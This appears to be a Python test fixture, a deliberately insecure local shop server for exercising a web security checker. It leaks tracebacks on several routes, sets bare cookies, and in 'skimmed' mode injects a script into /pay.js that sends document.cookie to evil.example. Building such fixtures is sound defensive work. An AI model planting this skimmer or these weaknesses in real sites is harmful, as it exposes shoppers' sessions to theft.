"""A careless shop: shows its traces, sets bare cookies, and its payment page may be tampered with.

Usage: shop.py PORT MODE_FILE; while the file says `skimmed`, the payment page holds a script that nobody authorised and
its own script says something else.
"""

import gzip
import json
import sys
import traceback
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PORT, MODE = int(sys.argv[1]), sys.argv[2]


def trace():
    try:
        return {}["stock"]
    except KeyError:
        return traceback.format_exc()


class Shop(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def send(self, status, kind, body, *fields):
        body = body.encode()
        if ("Content-Encoding", "gzip") in fields:
            body = gzip.compress(body)
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in fields:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.send(200, "text/plain", "done")

    def do_GET(self):
        skimmed = open(MODE).read().strip() == "skimmed"
        path = self.path.split("?")[0]
        html = "text/html; charset=utf-8"
        if path == "/":
            cookies = [("Set-Cookie", "session=1; Path=/"), ("Set-Cookie", "__Host-cart=2"), ("Set-Cookie", "theme=dark")]
            self.send(200, html, "<!doctype html><title>Shop</title><h1>Shop</h1>", *cookies)
        elif path == "/checkout":
            evil = "<script>document.body.dataset.skimmed = 'yes'</script>" if skimmed else ""
            page = (
                "<!doctype html><title>Pay</title><body><p id=total>12</p>"
                "<form action='https://pay.example.com/pay' method=post></form>"
                f"<script src=/pay.js></script>{evil}</body>"
            )
            self.send(200, html, page)
        elif path == "/pay.js":
            more = "fetch('https://evil.example/?' + document.cookie);" if skimmed else ""
            self.send(200, "text/javascript", f"document.body.dataset.total = 'shown';{more}")
        elif path == "/trace":
            self.send(200, html, f"<pre>{trace()}</pre>")
        elif path == "/trace.gz":
            self.send(200, "text/plain", trace(), ("Content-Encoding", "gzip"))
        elif path == "/trace.json":
            self.send(400, "application/json", json.dumps({"error": trace()}))
        elif path == "/docs/errors":
            self.send(200, html, f"<h1>How to read a traceback</h1><pre>{trace()}</pre>")
        elif path == "/boom":
            self.send(500, "text/plain", trace())
        elif path == "/stream":
            self.send(200, html, "<p>a long page, and no trace in it</p>" * 5000)
        else:
            self.send(404, html, "<h1>No such page</h1>")


ThreadingHTTPServer(("127.0.0.1", PORT), Shop).serve_forever()
